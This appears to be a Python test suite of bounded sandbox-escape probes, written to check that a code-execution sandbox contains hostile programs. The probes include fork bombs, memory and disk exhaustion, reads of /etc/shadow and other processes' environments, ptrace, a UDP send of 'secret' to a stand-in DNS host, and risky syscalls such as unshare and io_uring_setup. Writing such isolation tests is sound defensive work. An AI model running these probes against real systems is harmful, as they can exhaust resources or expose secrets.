"""Programs that try to get out of the sandbox, each bounded by itself, so that a missing layer harms nobody.

A program prints `contained` when nothing that it tried worked, and `ESCAPED` with what worked otherwise. Names in
capitals are those of `world.World`, put in front of the program.
"""

import textwrap
from dataclasses import dataclass
from typing import Final

from longshore_runtime.sandbox.cases import Outcome
from tests.contract.sandbox.world import LIMITS

_PRELUDE: Final = """
import ctypes, os, signal, socket, sys, threading, time
escaped = []

def attempt(name, action):
    try:
        worked = action()
    except Exception:
        return
    if worked is not False:
        escaped.append(name)

def tell():
    print("ESCAPED " + ", ".join(escaped) if escaped else "contained")

def reads(path):
    return lambda: bool(open(path, "rb").read(1))

libc = ctypes.CDLL(None, use_errno=True)

def call(*arguments):
    return lambda: libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]) >= 0

def fork_without_end(then):  # By every child as well; 64 forks succeed if nobody refuses them.
    left, given = os.pipe()
    os.write(given, b"x" * 64)
    os.close(given)
    may = b""
    while True:
        may = may or os.read(left, 1)
        try:
            child = os.fork() if may else None
        except OSError:
            continue
        may = b""
        if child == 0:
            then()
"""


@dataclass(frozen=True)
class Attack:
    """One variant of one class of attacks."""

    kind: str
    variant: str
    source: str
    contained: frozenset[Outcome] = frozenset({Outcome.PASSED})
    """How it ends where it is contained; `passed` means that it printed `contained`."""

    @property
    def wall_s(self) -> float:
        """Time that it gets: little if it never ends, else far more than it needs."""
        return 0.4 if Outcome.TIMED_OUT in self.contained else LIMITS.wall_s

    def __str__(self) -> str:
        return f"{self.kind}: {self.variant}"

    def program(self, names: dict[str, object]) -> str:
        """The program, with the names of the world."""
        return "\n".join([*(f"{name} = {value!r}" for name, value in names.items()), _PRELUDE, self.source])


def _attack(kind: str, variant: str, source: str, *contained: Outcome) -> Attack:
    return Attack(kind, variant, textwrap.dedent(source), frozenset(contained or {Outcome.PASSED}))


_LIMITED: Final = (Outcome.PASSED, Outcome.LIMIT, Outcome.ERROR)

ATTACKS: Final = [
    _attack(
        "processes without end",
        "children",
        """
        for number in range(24):
            try:
                child = os.fork()
            except OSError:
                break
            if child == 0:
                while True:
                    signal.pause()
        else:
            escaped.append("24 children")
        tell()
        """,
        *_LIMITED,
    ),
    _attack(
        "processes without end",
        "threads",
        """
        threading.stack_size(1 << 16)
        wait = threading.Event()
        for number in range(48):
            try:
                threading.Thread(target=wait.wait, daemon=True).start()
            except RuntimeError:
                break
        else:
            escaped.append("48 threads")
        tell()
        """,
        *_LIMITED,
    ),
    _attack(
        "processes without end",
        "children of children",
        """
        def down(depth):
            if depth == 24:
                os.write(1, b"ESCAPED 24 generations ")
                os.write(told, b"x")
            try:
                if os.fork() == 0:
                    down(depth + 1)
            except OSError:
                os.write(told, b"x")
            while True:
                signal.pause()
        ended, told = os.pipe()
        try:
            if os.fork() == 0:
                down(1)
            os.read(ended, 1)
        except OSError:
            pass
        tell()
        """,
        *_LIMITED,
    ),
    _attack(
        "memory",
        "one block",
        """
        import mmap
        def fill():
            block = mmap.mmap(-1, NUM_BYTES)
            for at in range(0, NUM_BYTES, 4096):
                block[at] = 1
        attempt("filled", fill)
        tell()
        """,
        *_LIMITED,
    ),
    _attack(
        "memory",
        "many objects",
        """
        def fill():
            kept = []
            for _ in range(NUM_BYTES >> 16):
                kept.append(bytearray(b"x") * (1 << 16))
        try:
            attempt("filled", fill)
        except MemoryError:
            pass
        tell()
        """,
        *_LIMITED,
    ),
    _attack(
        "disk",
        "one file",
        """
        def fill(path):
            try:
                with open(path, "wb", buffering=0) as file:
                    for _ in range(32):
                        if file.write(bytes(1 << 20)) != 1 << 20:
                            return False
            finally:
                if os.path.exists(path):
                    os.unlink(path)
        for directory in (".", "/tmp", "/var/tmp", "/dev/shm"):
            attempt(directory, lambda: fill(directory + "/longshore-attack"))
        tell()
        """,
        *_LIMITED,
    ),
    _attack(
        "disk",
        "many files",
        """
        def fill(directory):
            paths = [f"{directory}/longshore-attack-{number}" for number in range(128)]
            try:
                for path in paths:
                    with open(path, "wb", buffering=0) as file:
                        if file.write(bytes(1 << 18)) != 1 << 18:
                            return False
            finally:
                for path in paths:
                    if os.path.exists(path):
                        os.unlink(path)
        for directory in (".", "/tmp", "/var/tmp", "/dev/shm"):
            attempt(directory, lambda: fill(directory))
        tell()
        """,
        *_LIMITED,
    ),
    _attack(
        "secrets of the pod",
        "its environment",
        """
        attempt("own", lambda: any("CANARY" in name for name in os.environ))
        for process in ("self", "1", str(os.getppid()), str(HOST_PID)):
            attempt(process, lambda: CANARY_NAME in open(f"/proc/{process}/environ").read())
        tell()
        """,
    ),
    _attack(
        "secrets of the pod",
        "its files",
        """
        host = f"/proc/{HOST_PID}/cmdline"
        for path in ("/etc/shadow", "/etc/passwd", REPOSITORY_FILE, OTHER_SAMPLE, SHARED_MEMORY, host):
            attempt(path, reads(path))
        attempt("directory of samples", lambda: bool(os.listdir(os.path.dirname(OTHER_SAMPLE))))
        tell()
        """,
    ),
    _attack(
        "secrets of the pod",
        "through links",
        """
        def by(make, name):
            def action():
                try:
                    make(OTHER_SAMPLE, name)
                    return bool(open(name).read())
                finally:
                    if os.path.lexists(name):
                        os.unlink(name)
            return action
        for directory in ("/tmp", "."):
            attempt("symbolic", by(os.symlink, directory + "/longshore-link"))
            attempt("hard", by(os.link, directory + "/longshore-hard-link"))
        attempt("root of another", reads(f"/proc/{os.getppid()}/root{OTHER_SAMPLE}"))
        attempt("root of the host", reads(f"/proc/{HOST_PID}/root{OTHER_SAMPLE}"))
        tell()
        """,
    ),
    _attack(
        "network",
        "connecting",
        """
        def connect():
            with socket.create_connection(("127.0.0.1", TCP_PORT), timeout=1):
                pass
        attempt("tcp", connect)
        tell()
        """,
    ),
    _attack(
        "network",
        "listening",
        """
        def listen():
            with socket.socket() as server:
                server.bind(("127.0.0.1", 0))
                server.listen()
                with socket.create_connection(server.getsockname(), timeout=1):
                    pass
        attempt("tcp", listen)
        tell()
        """,
    ),
    _attack(
        "network",
        "datagrams",
        """
        def send(family, address):
            with socket.socket(family, socket.SOCK_DGRAM) as sender:
                sender.sendto(b"secret", address)
        attempt("udp", lambda: send(socket.AF_INET, ("127.0.0.1", UDP_PORT)))
        attempt("name server", lambda: send(socket.AF_INET, ("192.0.2.1", 53)))
        tell()
        """,
    ),
    _attack(
        "network",
        "local sockets",
        """
        def connect(address):
            with socket.socket(socket.AF_UNIX) as client:
                client.settimeout(1)
                client.connect(address)
        attempt("abstract", lambda: connect("\\0" + ABSTRACT_SOCKET))
        attempt("path", lambda: connect(SOCKET_PATH))
        def datagram_pair():
            mine, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            mine.sendto(b"secret", "\\0" + ABSTRACT_DATAGRAM)
        attempt("pair", datagram_pair)
        tell()
        """,
    ),
    _attack(
        "other processes",
        "signals",
        """
        attempt("another", lambda: os.kill(DECOY_PID, signal.SIGUSR1))
        attempt("its parent", lambda: os.getppid() > 1 and os.kill(os.getppid(), signal.SIGCONT))
        attempt("the host", lambda: os.kill(HOST_PID, 0))
        def owner():
            import fcntl
            read, write = os.pipe()
            fcntl.fcntl(read, fcntl.F_SETOWN, DECOY_PID)
            fcntl.fcntl(read, 10, signal.SIGUSR1)  # F_SETSIG
            fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
            os.write(write, b"x")
            return False  # Whether it came, the neighbour knows.
        attempt("by a descriptor", owner)
        tell()
        """,
    ),
    _attack(
        "other processes",
        "tracing",
        """
        X86 = os.uname().machine == "x86_64"
        PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
        for process in {DECOY_PID, HOST_PID, os.getppid()} - {0}:
            def trace():
                ptrace = 101 if X86 else 117
                seized = call(ptrace, PTRACE_SEIZE, process, None, None)()
                if seized:
                    call(ptrace, PTRACE_DETACH, process, None, None)()
                return seized
            attempt(f"ptrace {process}", trace)
            attempt(f"memory of {process}", lambda: bool(open(f"/proc/{process}/mem", "r+b")))
            attempt(f"descriptors of {process}", lambda: bool(os.listdir(f"/proc/{process}/fd")))
            def read_memory():
                data = ctypes.create_string_buffer(8)
                vector = (ctypes.c_size_t * 2)(ctypes.addressof(data), 8)
                return libc.process_vm_readv(process, vector, 1, vector, 1, 0) >= 0 or ctypes.get_errno() == 14
            attempt(f"process_vm_readv {process}", read_memory)
            attempt(f"limits of {process}", lambda: __import__("resource").prlimit(process, 7))
        tell()
        """,
    ),
    _attack(
        "interpreter and packages",
        "overwriting",
        """
        for path in (os.__file__, sys.executable, os.path.realpath("/proc/self/exe"), REPOSITORY_FILE):
            attempt(path, lambda: bool(open(path, "r+b")))
        def create(directory):
            path = directory + "/longshore-attack.py"
            open(path, "w").close()
            os.unlink(path)
        for directory in (os.path.dirname(os.__file__), os.path.dirname(REPOSITORY_FILE), "/usr/lib", "/etc", "/"):
            attempt(directory, lambda: create(directory))
        tell()
        """,
    ),
    _attack(
        "kernel",
        "privileged calls",
        """
        X86 = os.uname().machine == "x86_64"
        for name, x86, arm, arguments in (
            ("mount", 165, 40, (b"none", b"/tmp", b"tmpfs", 0, None)),
            ("chroot", 161, 51, (b"/tmp",)),
            ("setuid 0 again", 105, 146, (0,)) if os.getuid() else ("setns", 308, 268, (-1, 0)),
            ("mknod", 259, 33, (-100, b"/tmp/longshore-attack", 0o020666, 0x103)),
            ("open_by_handle_at", 304, 265, (-1, None, 0)),
        ):
            attempt(name, call(x86 if X86 else arm, *arguments))
        tell()
        """,
    ),
    _attack(
        "kernel",
        "calls with a history of holes",
        """
        X86 = os.uname().machine == "x86_64"
        data = ctypes.create_string_buffer(256)
        for name, x86, arm, arguments in (
            ("keyctl", 250, 219, (0, -3, 1)),
            ("add_key", 248, 217, (b"user", b"longshore", b"x", 1, -2)),
            ("io_uring_setup", 425, 425, (1, data)),
            ("userfaultfd", 323, 282, (1,)),
            ("unshare user", 272, 97, (0x10000000,)),
            ("memfd_create", 319, 279, (b"x", 0)),
            ("personality", 135, 92, (0x40000,)),
            ("shmget", 29, 194, (0, 4096, 0o1600)),
        ):
            attempt(name, call(x86 if X86 else arm, *arguments))
        tell()
        """,
    ),
]

ENDLESS: Final = [
    _attack("endless", "loop", "while True: pass", Outcome.TIMED_OUT),
    _attack("endless", "sleep", "time.sleep(1e6)", Outcome.TIMED_OUT),
    _attack(
        "endless",
        "every signal ignored",
        """
        for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
            try:
                signal.signal(number, signal.SIG_IGN)
            except OSError:
                pass
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        while True: pass
        """,
        Outcome.TIMED_OUT,
    ),
    _attack(
        "endless",
        "every exception caught",
        """
        def go():
            while True:
                try:
                    while True: pass
                except BaseException:
                    continue
        go()
        """,
        Outcome.TIMED_OUT,
    ),
    _attack(
        "endless",
        "at exit",
        """
        import atexit
        atexit.register(lambda: time.sleep(1e6))
        tell()
        """,
        Outcome.TIMED_OUT,
    ),
    _attack("endless", "stops itself", "os.kill(os.getpid(), signal.SIGSTOP)", Outcome.TIMED_OUT),
    _attack(
        "endless",
        "thread that never ends",
        """
        threading.Thread(target=time.sleep, args=(1e6,)).start()
        tell()
        """,
        Outcome.TIMED_OUT,
    ),
    _attack(
        "endless",
        "fork bomb",
        """
        fork_without_end(lambda: None)
        """,
        Outcome.TIMED_OUT,
    ),
    _attack(
        "endless",
        "daemon bomb",
        """
        fork_without_end(os.setsid)
        """,
        Outcome.TIMED_OUT,
    ),
    _attack("endless output", "lines", "while True: print('contained')", Outcome.LIMIT),
    _attack("endless output", "one line", "while True: print('x' * 4096, end='')", Outcome.LIMIT),
    _attack("endless output", "standard error", "while True: print('x', file=sys.stderr)", Outcome.LIMIT),
    _attack(
        "endless output",
        "a child's",
        """
        if os.fork() == 0:
            while True: os.write(1, b"x" * 4096)
        signal.pause()
        """,
        Outcome.LIMIT,
        Outcome.ERROR,
    ),
]

DAEMONS: Final = [
    _attack(
        "daemons",
        "double fork",
        """
        def detach():
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    while True: signal.pause()
                os._exit(0)
            os.wait()
            return False
        attempt("fork", detach)
        tell()
        """,
    ),
    _attack(
        "daemons",
        "every signal ignored",
        """
        def detach():
            ready, told = os.pipe()
            if os.fork() == 0:
                os.setsid()
                for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(number, signal.SIG_IGN)
                os.write(told, b"x")
                while True: signal.pause()
            os.read(ready, 1)
            return False
        attempt("fork", detach)
        tell()
        """,
    ),
    _attack(
        "daemons",
        "generations that outlive one another",
        """
        def detach():
            if os.fork() == 0:
                try:
                    until_s = time.monotonic() + 3.0  # Bounded, should nobody stop it.
                    while time.monotonic() < until_s and os.fork() == 0:
                        os.setsid()
                finally:
                    os._exit(0)
            return False
        attempt("fork", detach)
        tell()
        """,
    ),
]
